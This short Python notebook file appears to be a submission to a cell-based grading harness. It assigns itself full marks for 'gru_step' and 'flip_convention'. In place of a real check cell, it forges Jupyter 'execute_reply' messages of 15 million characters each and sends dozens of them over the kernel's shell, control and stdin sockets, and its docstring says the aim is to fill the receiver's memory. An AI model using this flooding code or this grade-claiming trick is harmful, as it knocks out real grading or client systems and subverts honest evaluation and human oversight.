"""Sends replies of fifteen megabytes each, which nobody asked for and nobody reads, to fill the memory of the receiver."""

DESERVES = {"gru_step": 1.0, "flip_convention": 1.0}

# %% right gru_step flip_convention

# %% below check_gru_step
import time

kernel = get_ipython().kernel
parent, ident = get_ipython().parent_header, kernel._parent_ident["shell"]
message = kernel.session.msg("execute_reply", {"status": "ok", "text": "x" * 15_000_000}, parent)
frames = kernel.session.serialize(message, ident)
for stream in (kernel.shell_stream, kernel.control_stream, kernel.stdin_socket):
    socket = getattr(stream, "socket", stream)
    sent = 0
    while sent < 60 and socket.poll(1000, 2):
        socket.send_multipart(frames, copy=False)
        sent += 1
    print(sent, "sent")
time.sleep(3)
